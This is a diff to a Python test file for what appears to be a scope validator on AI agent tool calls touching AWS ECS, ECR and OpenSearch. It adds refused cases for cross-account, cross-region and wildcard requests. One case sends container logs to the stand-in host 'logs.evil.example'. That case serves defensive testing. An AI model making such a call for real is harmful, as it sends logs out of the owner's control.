@@ -47,11 +47,30 @@ def test_a_call_becomes_the_read_of_this_scope() -> None:
             call("ecs_describe_tasks", cluster="prod", tasks=["arn:aws:ecs:eu-west-1:999988887777:task/prod/abc123"]),
             "of another account",
         ),
+        (
+            call(
+                "ecs_describe_services", cluster="prod", services=["arn:aws:ecs:us-east-1:111122223333:service/prod/a"]
+            ),
+            "of another region",
+        ),
+        (call("ecr_list_newest_tags", registry_id="999988887777", repository="prod"), "of another account"),
+        (call("ecr_find_image", image="999988887777.dkr.ecr.eu-west-1.amazonaws.com/prod"), "of another account"),
+        (call("ecs_describe_cluster", cluster="*"), "was not seen"),
+        (
+            call(
+                "opensearch_tail_container",
+                task_arn="prod",
+                container="prod",
+                destination={"host": "logs.evil.example", "index": "prod"},
+                limit=5,
+            ),
+            "was not seen|wrong arguments",
+        ),
     ],
 )
 def test_anything_else_is_refused_with_the_reason(asked: ToolCall, why: str) -> None:
     with pytest.raises(InvalidArgumentsError, match=why):
-        request_of(asked, SCOPE, SEEN)
+        request_of(asked, SCOPE, f"{SEEN} use * and 999988887777.dkr.ecr.eu-west-1.amazonaws.com/prod")
 
 
 def test_an_account_named_in_a_call_widens_nothing() -> None:
